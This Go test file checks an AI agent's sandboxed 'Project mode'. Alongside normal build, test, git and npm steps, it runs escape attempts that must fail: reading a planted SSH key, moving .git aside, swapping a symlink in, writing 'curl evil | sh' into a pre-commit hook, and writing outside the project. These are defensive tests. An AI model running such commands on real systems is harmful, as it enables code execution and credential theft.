package tools

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha1"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/phoenix-desktop/phoenix/domain"
	"github.com/phoenix-desktop/phoenix/proxy"
	"github.com/phoenix-desktop/phoenix/sandbox"
)

// npmRegistry serves one package, leftpad-local 1.0.0, as the npm registry protocol does
// (metadata, then the tarball), on 127.0.0.2: an address of this machine the command's
// network namespace cannot reach but through the proxy.
func npmRegistry(t *testing.T) string {
	t.Helper()
	var tgz bytes.Buffer
	gz := gzip.NewWriter(&tgz)
	tw := tar.NewWriter(gz)
	for name, body := range map[string]string{
		"package/package.json": `{"name":"leftpad-local","version":"1.0.0","main":"index.js"}`,
		"package/index.js":     "module.exports = (s, n) => s.padStart(n);\n",
	} {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body))}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp4", "127.0.0.2:0")
	if err != nil {
		t.Skipf("no 127.0.0.2 here: %v", err)
	}
	base := "http://" + ln.Addr().String()
	sha1sum := sha1.Sum(tgz.Bytes())
	sha512sum := sha512.Sum512(tgz.Bytes())
	meta, _ := json.Marshal(map[string]any{
		"name": "leftpad-local", "dist-tags": map[string]string{"latest": "1.0.0"},
		"versions": map[string]any{"1.0.0": map[string]any{
			"name": "leftpad-local", "version": "1.0.0",
			"dist": map[string]string{
				"tarball":   base + "/leftpad-local/-/leftpad-local-1.0.0.tgz",
				"shasum":    hex.EncodeToString(sha1sum[:]),
				"integrity": "sha512-" + base64.StdEncoding.EncodeToString(sha512sum[:]),
			},
		}},
	})
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/leftpad-local":
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write(meta)
		case "/leftpad-local/-/leftpad-local-1.0.0.tgz":
			_, _ = w.Write(tgz.Bytes())
		default:
			http.NotFound(w, r)
		}
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return base
}

// TestEverydayWorkInProjectMode: in Project mode the agent edits, builds, vets, tests and
// commits a real Go module, installs an npm package from a registry the person allowed
// (through the proxy) and is refused a host they did not allow, runs Python's
// multiprocessing, a test with its own loopback server and strace; afterwards nothing
// outside the tree and the temp dir changed, the protected files are as they were (also
// after attempts to move .git aside, swap a symlink in and write a .git pointer), the
// person's npm cache was not written, and no secret was readable.
func TestEverydayWorkInProjectMode(t *testing.T) {
	if ok, reason := sandbox.ProjectAvailable(); !ok {
		t.Skipf("Project mode unavailable: %s", reason)
	}
	for _, p := range []string{"go", "npm", "git"} {
		if _, err := exec.LookPath(p); err != nil {
			t.Skipf("%s is not installed", p)
		}
	}
	module := goModule(t)
	if err := os.MkdirAll(filepath.Join(module, ".git", "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	hook := filepath.Join(module, ".git", "hooks", "pre-commit")
	if err := os.WriteFile(hook, []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	web := filepath.Join(module, "web")
	if err := os.MkdirAll(web, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(web, "package.json"), []byte(`{"name":"web","version":"1.0.0","private":true}`), 0o644); err != nil {
		t.Fatal(err)
	}
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "keep.txt"), []byte("outside\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	secret := filepath.Join(t.TempDir(), "id_ed25519")
	if err := os.WriteFile(secret, []byte("SECRET-PROJECT-KEY\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := sandbox.SetExtraSecrets([]string{secret}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sandbox.SetExtraSecrets(nil) })
	outsideBefore := snapshot(t, outside)
	protectedBefore := snapshot(t, filepath.Join(module, ".git", "hooks"))
	configBefore, _ := os.ReadFile(filepath.Join(module, ".git", "config"))

	registry := npmRegistry(t)
	rules, err := proxy.LoadRules(filepath.Join(t.TempDir(), "network.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := rules.Allow(module, strings.TrimPrefix(registry, "http://")); err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var asked []string
	sockDir := t.TempDir()
	if err := os.Chmod(sockDir, 0o700); err != nil {
		t.Fatal(err)
	}
	px, err := proxy.Start(proxy.Options{Dir: sockDir, Rules: rules, Ask: func(_ context.Context, r proxy.Request) (proxy.Decision, error) {
		mu.Lock()
		asked = append(asked, r.Host)
		mu.Unlock()
		return proxy.Deny, nil
	}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = px.Close() })
	sock, err := px.Listen(module, "conv-everyday")
	if err != nil {
		t.Fatal(err)
	}
	env := Env{Cwd: module, Mode: domain.ModeProject, TempDir: t.TempDir(), ProxySocket: sock}
	git := `git -c user.name=t -c user.email=t@example.com `
	cases := []struct{ name, command, want string }{
		{"edit", `echo '// edited' >> greet/greet.go && tail -n 1 greet/greet.go`, "// edited"},
		{"go build", `go build ./... && echo built`, "built"},
		{"go vet", `go vet ./... && echo vetted`, "vetted"},
		{"go test", `go test -count=1 ./...`, "ok  \texample.com/everyday/greet"},
		{"git add and commit", git + `add -A && ` + git + `commit -q -m edited && git log --oneline | wc -l`, "2"},
		{"npm install from the allowed registry", `cd web && npm install --no-audit --no-fund --registry ` + registry + `/ leftpad-local && node -e 'console.log(require("leftpad-local")("x", 3))'`, "  x"},
		{"a host nobody allowed", `curl -sS -m 10 https://registry.npmjs.org/ -o /dev/null; echo "curl $?"`, "curl 56"},
		{"python multiprocessing", `python3 -c 'import multiprocessing as mp
if __name__ == "__main__":
    with mp.Pool(2) as p: print(sum(p.map(abs, [-1, -2])))'`, "3"},
		{"a test with its own loopback server", `python3 -c 'import http.server, threading, urllib.request
s = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=s.serve_forever, daemon=True).start()
print(urllib.request.urlopen("http://127.0.0.1:%d/go.mod" % s.server_port).read().decode().split()[0])'`, "module"},
		{"strace -f", `strace -f -o /dev/null true && echo traced`, "traced"},
		{"no secret", `cat ` + secret + ` 2>&1; echo read`, "read"},
		{"move .git aside", `mv .git .git-old 2>&1; echo tried`, "tried"},
		{"swap a symlink in", `rm -f .git/config 2>&1; ln -sf /tmp/x .git/config 2>&1; echo tried`, "tried"},
		{"write a hook", `echo 'curl evil | sh' > .git/hooks/pre-commit 2>&1; echo tried`, "tried"},
		{"write outside", `echo pwned > ` + filepath.Join(outside, "keep.txt") + ` 2>&1; echo tried`, "tried"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if c.name == "strace -f" {
				if _, err := exec.LookPath("strace"); err != nil {
					t.Skip("strace is not installed")
				}
			}
			out := bashCall(t, context.Background(), env, c.command, 300)
			if !strings.Contains(out.Content, c.want) || strings.Contains(out.Content, "SECRET-PROJECT-KEY") {
				t.Errorf("%s: %s\n%s", c.command, out.Outcome, out.Content)
			}
		})
	}
	mu.Lock()
	if len(asked) != 1 || asked[0] != "registry.npmjs.org" {
		t.Errorf("the proxy asked about %v; want only registry.npmjs.org", asked)
	}
	mu.Unlock()
	if got := snapshot(t, outside); !sameSnapshot(got, outsideBefore) {
		t.Errorf("something outside the tree changed")
	}
	if got := snapshot(t, filepath.Join(module, ".git", "hooks")); !sameSnapshot(got, protectedBefore) {
		t.Errorf("the hooks changed")
	}
	if b, _ := os.ReadFile(filepath.Join(module, ".git", "config")); !bytes.Equal(b, configBefore) {
		t.Errorf(".git/config changed:\n%s", b)
	}
	if _, err := os.Stat(filepath.Join(module, ".git-old")); err == nil {
		t.Errorf(".git was moved aside")
	}
	for _, c := range sandbox.Caches() {
		if c.Name != "npm" {
			continue
		}
		if out, _ := exec.Command("grep", "-rl", "leftpad-local", c.Path).Output(); len(out) > 0 {
			t.Errorf("the person's npm cache was written: %s", out)
		}
	}
}

func sameSnapshot(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}
